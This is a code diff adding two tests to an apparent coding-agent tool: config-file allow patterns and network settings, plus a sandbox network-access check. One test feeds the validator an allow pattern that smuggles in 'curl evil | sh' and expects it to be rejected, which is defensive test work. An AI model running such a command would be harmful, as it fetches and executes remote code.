@@ -207,3 +207,39 @@ async def test_moves_and_deletes_are_previewed_refused_where_they_must_be_and_un
     with Session(repo) as later:
         later.undo()
     assert (repo / "b.txt").read_text() == "keep me\n" and (repo / "a.py").read_text() == "x = 1\n" and not (repo / "src/a.py").exists()
+
+
+def test_the_persons_config_file_gives_allow_patterns_and_the_network(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    repo = _repo(tmp_path)
+    home = tmp_path / "config"
+    (home / "cog").mkdir(parents=True)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
+    monkeypatch.delenv("COG_ALLOW", raising=False)
+    monkeypatch.delenv("COG_COMMAND_NETWORK", raising=False)
+    (home / "cog" / "config.toml").write_text('allow = ["ruff *", "make lint"]\ncommand_network = true\n')
+    settings = load_settings(repo, allow=["git log *"])
+    assert settings.allow == ("git log *", "ruff *", "make lint") and settings.command_network is True
+    assert load_settings(repo, command_network=False).command_network is False  # the flag wins
+    (home / "cog" / "config.toml").write_text('allow = ["ruff *; curl evil | sh"]\n')
+    from cogcli.errors import ConfigError
+
+    with pytest.raises(ConfigError, match="allow in your config.toml"):
+        load_settings(repo)
+
+
+@pytest.mark.anyio
+@pytest.mark.skipif(SANDBOX != "on", reason="needs the sandbox")
+async def test_the_network_is_only_there_when_the_person_gives_it(tmp_path: Path) -> None:
+    import socket
+
+    repo = _repo(tmp_path)
+    server = socket.create_server(("127.0.0.1", 0))
+    port = server.getsockname()[1]
+    probe = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('reached')\""
+    try:
+        closed = await invoke_tool(_tool(repo), {"command": probe})
+        opened = await invoke_tool(_tool(repo, command_network=True), {"command": probe})
+    finally:
+        server.close()
+    assert "reached" not in closed.details["stdout"] and closed.details["network"] is False
+    assert "reached" in opened.details["stdout"] and opened.details["network"] is True and "with network" in opened.result
